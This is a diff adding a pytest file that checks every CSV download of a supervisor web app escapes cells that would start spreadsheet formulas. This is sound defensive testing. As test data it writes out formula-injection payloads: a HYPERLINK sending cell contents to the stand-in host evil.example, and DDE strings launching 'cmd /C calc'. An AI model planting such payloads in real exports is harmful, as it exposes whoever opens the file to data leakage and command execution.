@@ -1,0 +1,127 @@
+"""Every CSV file a supervisor can download is safe to open in a spreadsheet: no cell starts
+a formula, whichever value (clientId, data, note, number) carried one. One writer makes them
+all (app/services/csv_files.py); a new CSV download needs a case here."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from app.extensions import db
+from app.models import BulkFailure, BulkJob, IntakeLoad
+from tests.admin.conftest import add_task, submit
+from tests.dnc.dnc_support import put
+from tests.intake.conftest import csv_text
+
+ROOT = Path(__file__).resolve().parents[2]
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0"]
+STARTS_A_FORMULA = tuple("=+-@\t\r")
+
+
+@pytest.fixture
+def app(app, tmp_path):
+    app.instance_path = str(tmp_path / "instance")  # where loads keep their files
+    return app
+
+
+def cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+def download(client, url: str) -> str:
+    response = client.get(url)
+    try:
+        assert response.status_code == 200, (url, response.status_code)
+        assert response.mimetype == "text/csv"
+        return response.get_data(as_text=True)
+    finally:
+        response.close()
+
+
+def campaign_export(client, acme, renewals) -> str:
+    for number, formula in enumerate(FORMULAS):
+        add_task(renewals, formula, {"Name": formula, f"Note {number}": formula})
+    return download(client, f"/tenants/{acme.id}/campaigns/{renewals.id}/export.csv")
+
+
+def intake_report(client, acme, renewals) -> str:
+    """An upload whose every row is refused (a phone number that is not one), each row's
+    clientId a formula: the report names them all."""
+    rows = [["Id", "Mobile Phone"], *([formula, "555"] for formula in FORMULAS)]
+    content = io.BytesIO(csv_text(rows).encode())
+    url = f"/tenants/{acme.id}/campaigns/{renewals.id}"
+    assert submit(client, url, "/intake", {"file": (content, "tasks.csv")}).status_code == 302
+    load = db.session.scalar(select(IntakeLoad))
+    assert load.finished
+    return download(client, f"/tenants/{acme.id}/loads/{load.id}/report.csv")
+
+
+def dnc_export(client, acme, renewals) -> str:
+    for number, formula in enumerate(FORMULAS):
+        put(acme, f"+1415555010{number}", note=formula)
+    return download(client, f"/tenants/{acme.id}/dnc/export.csv")
+
+
+def bulk_failures(client, acme, renewals) -> str:
+    """A bulk job's failures, each task's clientId and the reason a formula (the rows as the
+    job writes them: this download's writer is what is checked)."""
+    job = BulkJob(campaign=renewals, actor_kind="supervisor", actor_id="boss", action="delete")
+    db.session.add(job)
+    db.session.flush()
+    for number, formula in enumerate(FORMULAS):
+        task = add_task(renewals, f"c{number}")
+        failure = BulkFailure(job_id=job.id, task_id=task.id, record_id=task.record_id,
+                              client_id=formula, reason=formula)  # fmt: skip
+        db.session.add(failure)
+    db.session.commit()
+    return download(client, f"/tenants/{acme.id}/bulk/{job.id}/failures.csv")
+
+
+def report_agents(client, acme, renewals) -> str:
+    """The Reports page's agents table: each agent's login a formula."""
+    from tests.reports.generated import DAYS, START, generate
+
+    end = START + timedelta(days=DAYS)
+    shown = [a for a in generate(acme, count=40).attempts if START <= a.delivered_at < end]
+    for attempt, formula in zip(shown, FORMULAS, strict=False):
+        attempt.agent_login = formula
+    db.session.commit()
+    days = f"from={START.date()}&to={(end - timedelta(days=1)).date()}&zone=UTC"
+    return download(client, f"/tenants/{acme.id}/reports/agents.csv?{days}")
+
+
+DOWNLOADS = {
+    "admin.report_csv": report_agents,
+    "admin.bulk_failures": bulk_failures,
+    "admin.export_campaign": campaign_export,
+    "admin.intake_report": intake_report,
+    "admin.dnc_export": dnc_export,
+}
+
+
+def test_every_csv_download_of_the_app_is_checked_here(app):
+    offered = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
+    assert offered == set(DOWNLOADS)
+
+
+@pytest.mark.parametrize("endpoint", sorted(DOWNLOADS))
+def test_no_cell_of_a_csv_download_starts_a_formula(signed_in, acme, renewals, endpoint):
+    written = cells(DOWNLOADS[endpoint](signed_in, acme, renewals))
+    assert [cell for cell in written if cell.startswith(STARTS_A_FORMULA)] == []
+    for formula in FORMULAS:  # each value is there, guarded
+        assert "'" + formula in written, (endpoint, formula)
+
+
+def test_one_writer_makes_every_csv_file():
+    writers = [
+        str(path.relative_to(ROOT))
+        for path in sorted((ROOT / "app").rglob("*.py"))
+        if "csv.writer(" in path.read_text()
+    ]
+    assert writers == ["app/services/csv_files.py"]
